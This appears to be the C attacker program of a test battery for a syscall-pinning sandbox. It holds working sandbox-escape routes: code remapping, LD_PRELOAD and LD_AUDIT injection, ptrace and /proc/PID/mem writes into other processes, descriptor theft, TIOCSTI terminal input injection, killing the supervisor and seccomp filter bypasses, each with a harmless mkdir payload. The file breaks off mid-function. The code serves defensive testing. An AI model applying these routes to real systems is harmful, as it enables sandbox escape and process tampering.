/* SPDX-License-Identifier: ISC */
/*
 * The escape battery's attacker: `escape MODE MARK [ARG]`.  Each mode is
 * one route an attacker with code execution inside a pinned process (a
 * ROP chain) could take to issue a system call that the pins forbid; the
 * call it wants is mkdir(MARK, 0755) (x86-64 number 83), made where no
 * pin allows it.  The effect is what counts (battery.sh): MARK exists =
 * the attack escaped, whatever this program's exit status.  "Stopped"
 * means the process was killed (SIGSYS, 159 under `syspin run`) or the
 * step the route needs failed (exit 3, the reason on stdout).
 *
 * Unpinned, every mode produces its effect: battery.sh checks that first.
 * Modes ending in -ok are controls: the legitimate way, which must keep
 * working pinned (their effect is expected).
 *
 * Exit codes: 0 done, 3 a step failed (refused), 77 not applicable here,
 * 2 usage, 1 setup error.  Helper objects (libescape_*.so) are looked up
 * next to this program.
 */
#include <dlfcn.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <link.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include "traced.h"

extern char **environ;

/*
 * Our own sites, constant numbers: the analysis pins sp_raw_getpid's trap
 * (sp_raw_getpid + 5) for getpid (39) only, sp_raw_mkdir's for mkdir (83)
 * only (the payload of an exec'd copy: legitimately pinned there), and
 * sp_raw_exit's for exit_group.  esc_trap(trap, nr, a0, a1) is what a ROP
 * chain does: load rax, rdi, rsi and jump to a `syscall; ret`; the trap's
 * `ret` returns to esc_trap's caller.  esc_trap itself has no trap.
 */
__asm__(
    ".text\n"
    ".globl sp_raw_getpid\n"
    ".type sp_raw_getpid,@function\n"
    "sp_raw_getpid:\n"
    "	mov $39, %eax\n"
    "	syscall\n"
    "	ret\n"
    ".size sp_raw_getpid, .-sp_raw_getpid\n"
    ".globl sp_raw_mkdir\n"
    ".type sp_raw_mkdir,@function\n"
    "sp_raw_mkdir:\n"
    "	mov $83, %eax\n"
    "	syscall\n"
    "	ret\n"
    ".size sp_raw_mkdir, .-sp_raw_mkdir\n"
    ".globl sp_raw_exit\n"
    ".type sp_raw_exit,@function\n"
    "sp_raw_exit:\n"
    "	mov $231, %eax\n"
    "	syscall\n"
    "	hlt\n"
    ".size sp_raw_exit, .-sp_raw_exit\n"
    ".globl esc_trap\n"
    ".type esc_trap,@function\n"
    "esc_trap:\n"
    "	mov %rsi, %rax\n"
    "	mov %rdi, %r11\n"
    "	mov %rdx, %rdi\n"
    "	mov %rcx, %rsi\n"
    "	jmp *%r11\n"
    ".size esc_trap, .-esc_trap\n");

long sp_raw_getpid(void);
long sp_raw_mkdir(const char *path, long mode);
void sp_raw_exit(int) __attribute__((noreturn));
long esc_trap(const void *trap, long nr, long a0, long a1);

#define LDSO "/lib64/ld-linux-x86-64.so.2"	/* the x86-64 ABI's */
#define NR_MKDIR 83
#define OWN_GETPID_TRAP ((const uint8_t *)sp_raw_getpid + 5)

/* mov $83, %eax; syscall; ret -- mkdir(rdi, rsi) as a C function. */
static const uint8_t code[] = {
	0xb8, NR_MKDIR, 0, 0, 0, 0x0f, 0x05, 0xc3,
};
typedef long (*mkdir_fn)(const char *, long);

static const char *mark;

static int
refused(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 3;
}

/* The result of the forbidden mkdir, once it ran (or did not). */
static int
report(long r)
{
	printf("mkdir returned %ld\n", r);
	return r == 0 ? 0 : 3;
}

static const uint8_t *
find_trap(const void *fn)
{
	const uint8_t *p = fn;

	for (int i = 0; p != NULL && i < 64; i++)
		if (p[i] == 0x0f && p[i + 1] == 0x05)
			return p + i;
	return NULL;
}

static const uint8_t *
libc_getpid_trap(void)
{
	return find_trap(dlsym(RTLD_DEFAULT, "getpid"));
}

/* This program's directory, where the helper objects are. */
static const char *
libdir(void)
{
	static char dir[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", dir, sizeof(dir) - 1);
	char *s;

	if (n <= 0)
		return ".";
	dir[n] = '\0';
	if ((s = strrchr(dir, '/')) != NULL)
		*s = '\0';
	return dir;
}

static char *
helper(const char *name)
{
	char *p;

	if (asprintf(&p, "%s/%s", libdir(), name) == -1)
		exit(1);
	return p;
}

/* ---- baseline ---- */

/* The plain attack: our getpid site with mkdir's number.  Stopped:
 * killed (the pins work at all). */
static int
wrong_site(void)
{
	return report(esc_trap(OWN_GETPID_TRAP, NR_MKDIR, (long)mark, 0755));
}

/* The same through libc's getpid `syscall; ret`. */
static int
libc_site(void)
{
	const uint8_t *t = libc_getpid_trap();

	if (t == NULL)
		return 1;
	return report(esc_trap(t, NR_MKDIR, (long)mark, 0755));
}

/* Payload of the exec'd copies (attack 9): a site pinned for mkdir. */
static int
raw_mkdir(const char *unlink_me)
{
	long r = sp_raw_mkdir(mark, 0755);

	if (unlink_me != NULL)
		unlink(unlink_me);
	return report(r);
}

/* ---- 1. remap-libc ---- */

/* File offset of the byte at vaddr (an offset from the load base) in the
 * ELF image loaded at base. */
static long
vaddr_to_offset(const uint8_t *base, uintptr_t vaddr)
{
	const ElfW(Ehdr) *eh = (const void *)base;
	const ElfW(Phdr) *ph = (const void *)(base + eh->e_phoff);

	for (int i = 0; i < eh->e_phnum; i++)
		if (ph[i].p_type == PT_LOAD && vaddr >= ph[i].p_vaddr &&
		    vaddr < ph[i].p_vaddr + ph[i].p_filesz)
			return (long)(vaddr - ph[i].p_vaddr + ph[i].p_offset);
	return -1;
}

/*
 * A second, non-fixed PROT_READ|PROT_EXEC mapping of libc.so.6 (what
 * dlopen does for any library): the same bytes at a new address, outside
 * the pinned ranges.  Its copy of getpid's `syscall; ret` with rax = 83.
 * Stopped: the mapping is refused, or a call from it is killed.
 */
static int
remap_libc(void)
{
	const uint8_t *trap = libc_getpid_trap();
	Dl_info info;
	struct stat st;
	uint8_t *copy;
	long off;
	int fd;

	if (trap == NULL || dladdr(trap, &info) == 0)
		return 1;
	off = vaddr_to_offset(info.dli_fbase,
	    (uintptr_t)trap - (uintptr_t)info.dli_fbase);
	if (off < 0)
		return 1;
	if ((fd = open(info.dli_fname, O_RDONLY | O_CLOEXEC)) == -1 ||
	    fstat(fd, &st) == -1)
		return refused(info.dli_fname);
	copy = mmap(NULL, st.st_size, PROT_READ | PROT_EXEC, MAP_PRIVATE,
	    fd, 0);
	if (copy == MAP_FAILED)
		return refused("mmap libc PROT_EXEC");
	if (copy[off] != 0x0f || copy[off + 1] != 0x05)
		return 1;
	printf("libc %s: trap %p, copy %p\n", info.dli_fname, (void *)trap,
	    (void *)(copy + off));
	return report(esc_trap(copy + off, NR_MKDIR, (long)mark, 0755));
}

/* ---- 2. new code from a file: memfd, /dev/shm, O_TMPFILE, /tmp ---- */

static int
code_file(const char *kind, char *path, size_t size)
{
	int fd = -1;

	path[0] = '\0';
	if (strcmp(kind, "memfd") == 0)
		fd = memfd_create("escape", MFD_CLOEXEC);
	else if (strcmp(kind, "shm") == 0) {
		snprintf(path, size, "/dev/shm/escape.XXXXXX");
		fd = mkstemp(path);
	} else if (strcmp(kind, "tmpfile") == 0)
		fd = open("/tmp", O_TMPFILE | O_RDWR | O_CLOEXEC, 0700);
	else {
		snprintf(path, size, "/tmp/escape.XXXXXX");
		fd = mkstemp(path);
	}
	if (fd == -1)
		return -1;
	if (ftruncate(fd, 4096) == -1) {
		close(fd);
		return -1;
	}
	return fd;
}

/*
 * The attacker writes the code to a file, then maps it PROT_READ|
 * PROT_EXEC, MAP_PRIVATE (as ld.so maps a library), or MAP_FIXED over a
 * RW anonymous region it made first.  Stopped: the mapping is refused or
 * the call from it is killed.
 */
static int
file_code(const char *kind, bool fixed)
{
	char path[64];
	uint8_t *p, *at = NULL;
	int fd = code_file(kind, path, sizeof(path));
	int flags = MAP_PRIVATE;

	if (fd == -1)
		return refused(kind);
	if (pwrite(fd, code, sizeof(code), 0) != (ssize_t)sizeof(code))
		return refused("write code");
	if (fixed) {
		at = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (at == MAP_FAILED)
			return 1;
		flags |= MAP_FIXED;
	}
	p = mmap(at, 4096, PROT_READ | PROT_EXEC, flags, fd, 0);
	if (path[0] != '\0')
		unlink(path);
	if (p == MAP_FAILED)
		return refused("mmap PROT_EXEC");
	return report(((mkdir_fn)p)(mark, 0755));
}

/* ---- 3. shared-double ---- */

/*
 * One shared file mapped twice: MAP_SHARED PROT_READ|PROT_WRITE and
 * MAP_SHARED PROT_READ|PROT_EXEC.  Both mappings exist before the code
 * does; it is written through the first and called through the second.
 * Stopped: either mapping refused, or the call killed.
 */
static int
shared_double(const char *kind)
{
	char path[64];
	uint8_t *w, *x;
	int fd = code_file(kind, path, sizeof(path));

	if (fd == -1)
		return refused(kind);
	w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	if (path[0] != '\0')
		unlink(path);
	if (w == MAP_FAILED)
		return refused("mmap shared RW");
	if (x == MAP_FAILED)
		return refused("mmap shared RX");
	memcpy(w, code, sizeof(code));
	return report(((mkdir_fn)x)(mark, 0755));
}

/* ---- 4. mprotect / pkey_mprotect / mremap / personality ---- */

static uint8_t *
rw_page_with_code(void)
{
	uint8_t *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return NULL;
	memcpy(p, code, sizeof(code));
	return p;
}

/* Anonymous RW page, code written, then mprotect (or pkey_mprotect with
 * the default key) to R|X.  Stopped: EACCES (no --allow-jit), or killed. */
static int
mprotect_code(bool pkey)
{
	uint8_t *p = rw_page_with_code();
	long r;

	if (p == NULL)
		return 1;
	if (pkey)
		r = syscall(SYS_pkey_mprotect, p, 4096,
		    PROT_READ | PROT_EXEC, -1);
	else
		r = mprotect(p, 4096, PROT_READ | PROT_EXEC);
	if (r == -1)
		return refused(pkey ? "pkey_mprotect" : "mprotect");
	return report(((mkdir_fn)p)(mark, 0755));
}

/*
 * An executable file mapping (the memfd of attack 2) moved with
 * mremap(MREMAP_MAYMOVE|MREMAP_FIXED) to an address of our choice (a
 * reserved RW region), and called there.  Stopped: the first mapping or
 * the move refused, or the call killed.
 */
static int
mremap_exec(void)
{
	char path[64];
	uint8_t *p, *to, *q;
	int fd = code_file("memfd", path, sizeof(path));

	if (fd == -1)
		return refused("memfd");
	if (pwrite(fd, code, sizeof(code), 0) != (ssize_t)sizeof(code))
		return 1;
	p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (p == MAP_FAILED)
		return refused("mmap memfd PROT_EXEC");
	to = mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (to == MAP_FAILED)
		return 1;
	q = mremap(p, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, to + 4096);
	if (q == MAP_FAILED)
		return refused("mremap");
	return report(((mkdir_fn)q)(mark, 0755));
}

/* personality(READ_IMPLIES_EXEC): every readable mapping made afterwards
 * is executable; an anonymous RW mmap becomes RWX.  Stopped: personality
 * refused (EACCES), or the call killed. */
static int
persona(void)
{
	uint8_t *p;

	if (personality(READ_IMPLIES_EXEC) == -1)
		return refused("personality(READ_IMPLIES_EXEC)");
	if (!(personality(0xffffffff) & READ_IMPLIES_EXEC)) {
		printf("personality: READ_IMPLIES_EXEC did not stick\n");
		return 3;
	}
	if ((p = rw_page_with_code()) == NULL)
		return 1;
	return report(((mkdir_fn)p)(mark, 0755));
}

/* ---- 6. dlopen ---- */

/* A library loaded after start-up that makes the raw syscall itself
 * (libescape_evil.so: evil(path) = `syscall` with 83).  Stopped: the
 * load or the call. */
static int
dlopen_call(const char *lib, const char *sym)
{
	char *path = helper(lib);
	void *h = dlopen(path, RTLD_NOW);
	long (*fn)(const char *);

	if (h == NULL) {
		printf("dlopen: %s\n", dlerror());
		return 3;
	}
	if ((fn = (long (*)(const char *))dlsym(h, sym)) == NULL)
		return 1;
	return report(fn(mark));
}

/* ---- 7. LD_PRELOAD / LD_AUDIT in a child ---- */

/* environ without LD_PRELOAD, LD_AUDIT and ESC_MARK, plus extra. */
static char **
env_with(const char *const *extra, size_t nextra, bool keep_preload)
{
	size_t n = 0, j = 0;
	char **e;

	while (environ[n] != NULL)
		n++;
	if ((e = calloc(n + nextra + 1, sizeof(*e))) == NULL)
		exit(1);
	for (size_t i = 0; i < n; i++) {
		bool drop = strncmp(environ[i], "LD_AUDIT=", 9) == 0 ||
		    strncmp(environ[i], "ESC_MARK=", 9) == 0;
		for (size_t k = 0; k < nextra; k++) {
			size_t l = strcspn(extra[k], "=") + 1;
			if (strncmp(environ[i], extra[k], l) == 0)
				drop = true;
		}
		if (!keep_preload && strncmp(environ[i], "LD_PRELOAD=", 11) == 0)
			drop = true;
		if (!drop)
			e[j++] = environ[i];
	}
	for (size_t k = 0; k < nextra; k++)
		e[j++] = (char *)extra[k];
	e[j] = NULL;
	return e;
}

static int
exec_target(const char *target, char **env)
{
	char *self_argv[] = { "escape", "noop", NULL };
	char *true_argv[] = { "true", NULL };

	if (strcmp(target, "self") == 0)
		execve("/proc/self/exe", self_argv, env);
	else
		execve("/bin/true", true_argv, env);
	return refused("execve");
}

/*
 * Exec a child (/bin/true or this program in mode noop) whose environment
 * makes ld.so run the attacker's code before the child's entry point:
 * LD_PRELOAD=libescape_ctor.so (constructor), the same after syspin's
 * runtime (rt is its path), or LD_AUDIT=libescape_audit.so (la_version).
 * The code makes the raw mkdir of $ESC_MARK.  Stopped: the exec refused,
 * or the child killed before its mkdir runs.
 */
static int
preload(const char *how, const char *target, const char *rt)
{
	char *pre, *m;
	const char *extra[2];
	int r;

	if (strcmp(how, "audit") == 0)
		r = asprintf(&pre, "LD_AUDIT=%s", helper("libescape_audit.so"));
	else if (strcmp(how, "rt") == 0) {
		if (rt == NULL || access(rt, R_OK) != 0) {
			printf("no runtime path given\n");
			return 1;
		}
		r = asprintf(&pre, "LD_PRELOAD=%s:%s", rt,
		    helper("libescape_ctor.so"));
	} else
		r = asprintf(&pre, "LD_PRELOAD=%s",
		    helper("libescape_ctor.so"));
	if (r == -1 || asprintf(&m, "ESC_MARK=%s", mark) == -1)
		return 1;
	extra[0] = pre;
	extra[1] = m;
	return exec_target(target, env_with(extra, 2,
	    strcmp(how, "audit") == 0));
}

/*
 * The same objects given to ld.so run by name, on its command line:
 * `ld.so --preload|--audit LIB /bin/true` (lib/supervise/ldso_run.c).
 * Stopped: LIB is late code (its mkdir killed) or refused.
 */
static int
ldso_option(const char *opt, const char *lib)
{
	char *argv[] = { "ld.so", (char *)opt, helper(lib), "/bin/true",
	    NULL };
	const char *extra[1];
	char *m;

	if (asprintf(&m, "ESC_MARK=%s", mark) == -1)
		return 1;
	extra[0] = m;
	execve(LDSO, argv, env_with(extra, 1, false));
	return refused("execve");
}

/* ---- 8. libc's syscall() found with dlsym ---- */

/* syscall(83, MARK, 0755) through libc's exported number-taking function:
 * allowed there only for the numbers the loaded objects pass to it.
 * Stopped: killed. */
static int
libc_syscall(void)
{
	long (*sc)(long, ...) = (long (*)(long, ...))dlsym(RTLD_DEFAULT,
	    "syscall");

	if (sc == NULL)
		return 1;
	return report(sc(NR_MKDIR, mark, 0755));
}

/* ---- 9. exec of a file the attacker wrote ---- */

static int
copy_self(int to)
{
	char buf[65536];
	ssize_t n;
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	if (from == -1)
		return -1;
	while ((n = read(from, buf, sizeof(buf))) > 0)
		if (write(to, buf, n) != n)
			return -1;
	close(from);
	return n == 0 ? 0 : -1;
}

/*
 * A copy of this program, written by the attacker to a memfd (exec'd with
 * execveat(fd, "", AT_EMPTY_PATH)) or to $ESC_TMP or /tmp (chmod 755,
 * exec'd by path); the copy makes mkdir from a site pinned for mkdir (raw-mkdir):
 * any code the attacker writes is analysed and pinned as it is.  The
 * documented route in the default mode; --exec=trusted or --exec=none
 * must stop it: the exec refused, or the copy killed.
 */
static int
exec_copy(bool memfd)
{
	const char *tmp = getenv("ESC_TMP");
	char path[PATH_MAX];
	char *argv[] = { "escape", "raw-mkdir", (char *)mark, path, NULL };
	int fd;

	snprintf(path, sizeof(path), "%s/escape-exec.XXXXXX",
	    tmp != NULL ? tmp : "/tmp");

	if (memfd) {
		if ((fd = memfd_create("escape", MFD_CLOEXEC)) == -1 ||
		    copy_self(fd) == -1)
			return refused("memfd copy");
		argv[3] = NULL;
		syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
		return refused("execveat memfd");
	}
	if ((fd = mkstemp(path)) == -1 || copy_self(fd) == -1 ||
	    fchmod(fd, 0755) == -1 || close(fd) == -1)
		return refused("copy to /tmp");
	execve(path, argv, environ);
	unlink(path);
	return refused("execve copy");
}

/* ---- 10. ptrace, /proc/PID/mem, process_vm_writev, pidfd_getfd ---- */

struct target {
	pid_t pid;
	uintptr_t addr;		/* victim: its flag; parent: a RW word */
	int fd;			/* victim: a file it holds; parent: 2 */
	bool victim;
};

/* A writable word of another process, from its maps (readable only with
 * ptrace read access: failing here is being stopped). */
static int
rw_word(pid_t pid, uintptr_t *addr)
{
	char path[64], line[512], perm[8];
	unsigned long lo, hi;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	if ((f = fopen(path, "re")) == NULL)
		return -1;
	*addr = 0;
	while (fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) == 3 &&
		    perm[0] == 'r' && perm[1] == 'w') {
			*addr = lo;
			break;
		}
	fclose(f);
	if (*addr == 0)
		errno = ENOENT;
	return *addr == 0 ? -1 : 0;
}

static int
get_target(const char *who, struct target *t)
{
	FILE *f;
	unsigned long addr;
	int pid;

	if (strcmp(who, "parent") == 0) {
		t->pid = getppid();
		t->fd = 2;
		t->victim = false;
		if (rw_word(t->pid, &t->addr) == -1)
			return refused("parent's maps");
		return 0;
	}
	/* victim: "pid flag-address fd" written by escape_victim */
	if ((f = fopen(who, "re")) == NULL ||
	    fscanf(f, "%d %lx %d", &pid, &addr, &t->fd) != 3)
		return 1;
	fclose(f);
	t->pid = pid;
	t->addr = addr;
	t->victim = true;
	return 0;
}

/* Parent routes: the call succeeded, nothing was changed: record it. */
static int
crossed(const struct target *t, const char *what)
{
	printf("%s on %d succeeded\n", what, (int)t->pid);
	if (!t->victim && mkdir(mark, 0755) == -1)
		return 1;
	return 0;
}

/*
 * Against a victim (escape_victim, outside the tree): set its flag to 1,
 * which makes it create MARK.  Against our parent (the supervisor, or
 * `syspin run`): the same access, changing nothing (PTRACE_SEIZE, then
 * leave; the same bytes written back), and MARK made here if it worked.
 * Stopped: the access fails (EPERM...) or the process is killed.
 */
static int
ptrace_route(const char *who)
{
	struct target t;
	int r, st;
	long word;

	if ((r = get_target(who, &t)) != 0)
		return r;
	if (!t.victim) {
		if (ptrace(PTRACE_SEIZE, t.pid, 0, 0) == -1)
			return refused("PTRACE_SEIZE parent");
		return crossed(&t, "PTRACE_SEIZE");	/* exit detaches */
	}
	if (ptrace(PTRACE_ATTACH, t.pid, 0, 0) == -1)
		return refused("PTRACE_ATTACH victim");
	if (waitpid(t.pid, &st, __WALL) == -1)
		return refused("waitpid victim");
	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, t.pid, t.addr, 0);
	if (errno != 0)
		return refused("PTRACE_PEEKDATA");
	word = (word & ~0xffffffffL) | 1;
	if (ptrace(PTRACE_POKEDATA, t.pid, t.addr, word) == -1)
		return refused("PTRACE_POKEDATA");
	ptrace(PTRACE_DETACH, t.pid, 0, 0);
	return crossed(&t, "PTRACE_POKEDATA");
}

static int
mem_route(const char *who)
{
	struct target t;
	char path[64];
	uint32_t v = 1;
	int fd, r;

	if ((r = get_target(who, &t)) != 0)
		return r;
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)t.pid);
	if ((fd = open(path, O_RDWR | O_CLOEXEC)) == -1)
		return refused("open /proc/PID/mem O_RDWR");
	if (!t.victim && pread(fd, &v, sizeof(v), t.addr) != sizeof(v))
		return refused("pread /proc/PID/mem");
	if (pwrite(fd, &v, sizeof(v), t.addr) != sizeof(v))
		return refused("pwrite /proc/PID/mem");
	return crossed(&t, "pwrite /proc/PID/mem");
}

static int
vm_route(const char *who)
{
	struct target t;
	uint32_t v = 1;
	struct iovec local = { &v, sizeof(v) };
	struct iovec remote = { NULL, sizeof(v) };
	int r;

	if ((r = get_target(who, &t)) != 0)
		return r;
	remote.iov_base = (void *)t.addr;
	if (!t.victim &&
	    process_vm_readv(t.pid, &local, 1, &remote, 1, 0) != sizeof(v))
		return refused("process_vm_readv");
	if (process_vm_writev(t.pid, &local, 1, &remote, 1, 0) != sizeof(v))
		return refused("process_vm_writev");
	return crossed(&t, "process_vm_writev");
}

/* pidfd_getfd: a copy of one of the target's descriptors (the victim's
 * open file, the parent's stderr).  Escape: we got it (MARK made here). */
/* prlimit64 of another process: raised core and CPU limits make the
 * kernel write its memory to a core file (blind round 4).  The victim
 * sees a soft RLIMIT_NOFILE of 777; the parent gets its own back. */
static int
prlimit_route(const char *who)
{
	struct target t;
	struct rlimit old, rl;
	int r;

	if ((r = get_target(who, &t)) != 0)
		return r;
	if (prlimit(t.pid, RLIMIT_NOFILE, NULL, &old) == -1)
		return refused("prlimit (get) of another process");
	rl = old;
	if (t.victim)
		rl.rlim_cur = 777;
	if (prlimit(t.pid, RLIMIT_NOFILE, &rl, NULL) == -1)
		return refused("prlimit (set) of another process");
	return crossed(&t, "prlimit");
}

/* A signal that dumps core, to a process outside: its memory in a core
 * file its owner (the tree's user) reads.  The victim sees it pending
 * (SIGQUIT), or catches it as a crash handler that re-raises would
 * (SIGSEGV). */
static int
coresig_route(const char *who, int sig)
{
	struct target t;
	int r;

	if ((r = get_target(who, &t)) != 0)
		return r;
	if (!t.victim)
		return 1;
	if (kill(t.pid, sig) == -1)
		return refused("kill of another process with a core signal");
	return crossed(&t, "kill with a core signal");
}

/* The same to the group of a leader that catches SIGQUIT (syspin run at
 * the head of a job), through a pidfd (PIDFD_SIGNAL_PROCESS_GROUP, Linux
 * 6.9; blind round 6): the victim, another member, gets it. */
static int
coresig_group(const char *who)
{
	struct target t;
	int r, pfd;

	if ((r = get_target(who, &t)) != 0)
		return r;
	if ((pfd = (int)syscall(434, t.pid, 0)) == -1)	/* pidfd_open */
		return refused("pidfd_open");
	if (syscall(424, pfd, SIGQUIT, NULL, 4) == -1) {
		/* before 6.9 (no such flag): EINVAL, and unpinned the
		 * same, so the battery skips it */
		return refused("pidfd_send_signal to a group");
	}
	return crossed(&t, "pidfd_send_signal to a group");
}

static int
getfd_route(const char *who)
{
	struct target t;
	int pfd, fd, r;

	if ((r = get_target(who, &t)) != 0)
		return r;
	if ((pfd = (int)syscall(SYS_pidfd_open, t.pid, 0)) == -1)
		return refused("pidfd_open");
	if ((fd = (int)syscall(SYS_pidfd_getfd, pfd, t.fd, 0)) == -1)
		return refused("pidfd_getfd");
	printf("stole fd %d of %d as %d\n", t.fd, (int)t.pid, fd);
	if (mkdir(mark, 0755) == -1)
		return 1;
	return 0;
}

/* ---- 11. TIOCSTI ---- */

/* Pushes "mkdir MARK\n" into our terminal's input: the shell that started
 * us reads it after we exit.  Stopped: the ioctl fails, or we are killed. */
static int
tiocsti(void)
{
	char *line;

	if (asprintf(&line, "mkdir %s\n", mark) == -1)
		return 1;
	for (char *c = line; *c != '\0'; c++)
		if (ioctl(0, TIOCSTI, c) == -1)
			return refused("ioctl TIOCSTI");
	return 0;
}

/*
 * The terminal's line discipline acts for us (blind round 6).  tty-quit:
 * the quit character of the terminal at path (another login's) set to
 * 'q': the user's next 'q' there sends SIGQUIT, which dumps core, to what
 * runs there.  tty-quit-own: the same on ours, and the supervisor that
 * would put it back killed.  tty-fg: our terminal's foreground given to
 * a job outside (held 3 s), which then reads what the user types.  The
 * victims make MARK.
 */
static int
tty_quit(const char *path)
{
	struct termios t;
	int fd = path != NULL ? open(path, O_RDWR | O_NOCTTY | O_CLOEXEC) : 0;

	signal(SIGTTOU, SIG_IGN);
	if (fd == -1)
		return refused("open the terminal");
	if (tcgetattr(fd, &t) == -1)
		return refused("tcgetattr");
	t.c_cc[VQUIT] = 'q';
	t.c_lflag |= ISIG;
	if (tcsetattr(fd, TCSANOW, &t) == -1)
		return refused("tcsetattr of a terminal");
	if (tcgetattr(fd, &t) == -1 || t.c_cc[VQUIT] != 'q')
		return refused("tcsetattr (the quit character stayed)");
	if (path == NULL && is_traced())	/* no one to put it back */
		kill(getppid(), SIGKILL);
	return 0;
}

static int
tty_fg(const char *pgrp)
{
	signal(SIGTTOU, SIG_IGN);
	if (tcsetpgrp(0, (pid_t)atoi(pgrp)) == -1)
		return refused("tcsetpgrp to a group outside");
	sleep(3);
	return 0;
}

/* ---- 12. a filter of our own that answers SECCOMP_RET_TRACE ---- */

static int
install(struct sock_filter *f, unsigned short n, unsigned flags)
{
	struct sock_fprog prog = { n, f };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == -1)
		return -1;
	return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags,
	    &prog);
}

/*
 * The newest filter's data wins when several filters answer TRACE: ours
 * answers SECCOMP_RET_TRACE|data (for every call but exit/exit_group, or
 * only for mkdir), then the raw mkdir comes from our getpid site.  A
 * supervisor that believes the data (0: "an earlier image's filter";
 * 0xffff) may let the call run.  Only meaningful under a tracer: without
 * one TRACE fails every call with ENOSYS, so untraced (the unpinned run,
 * SYSPIN_SUPERVISE=0) the filter is not installed and this is the plain
 * wrong-site attack.  Stopped: killed.
 */
static int
own_trace_filter(uint32_t data, bool only_mkdir)
{
	struct sock_filter all[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		    offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_exit_group, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_exit, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | data),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_filter mk[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		    offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, NR_MKDIR, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | data),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	long r;

	if (is_traced()) {
		if ((only_mkdir ? install(mk, 4, 0) : install(all, 5, 0)) ==
		    -1)
			return refused("seccomp");
	} else
		printf("not traced: no filter of our own\n");
	r = esc_trap(OWN_GETPID_TRAP, NR_MKDIR, (long)mark, 0755);
	sp_raw_exit(r == 0 ? 0 : 3);	/* no call but exit_group */
}

/* ---- 13. SECCOMP_RET_USER_NOTIF ---- */

static void *
notif_thread(void *arg)
{
	int fd = *(int *)arg;
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) == -1) {
			if (errno == EINTR)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

/*
 * USER_NOTIF outranks TRACE: a filter of ours with a listener answers
 * USER_NOTIF for mkdir, our thread answers "continue", and the raw mkdir
 * comes from our getpid site.  Under a supervisor whose filters answer
 * TRACE the kernel asks us, not it.  Stopped: the filter refused, or the
 * call killed (KILL outranks USER_NOTIF).
 */
static int
user_notif(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		    offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, NR_MKDIR, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	static int fd;
	pthread_t t;

	if ((fd = install(f, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER)) == -1)
		return refused("seccomp NEW_LISTENER");
	if (pthread_create(&t, NULL, notif_thread, &fd) != 0)
		return 1;
	return report(esc_trap(OWN_GETPID_TRAP, NR_MKDIR, (long)mark, 0755));
}

/* ---- 14. the runtime's environment, changed for a child ---- */

/*
 * Exec this program again (mode child: wrong-site, or mprotect for
 * SYSPIN_FLAGS=j, or libc-syscall for SYSPIN_DLOPEN) with one of syspin's
 * settings changed in its environment, or with an empty environment
 * (env -i: no LD_PRELOAD).  Stopped: the exec refused, or the child
 * killed.
 */
static int
env_child(const char *what)
{
	char *argv[] = { "escape", "wrong-site", (char *)mark, NULL };
	char *empty[] = { NULL };
	char *set = NULL;

	if (strcmp(what, "clear") == 0) {
		execve("/proc/self/exe", argv, empty);
		return refused("execve");
	}
	if (strcmp(what, "flags-a") == 0)
		set = "SYSPIN_FLAGS=a";
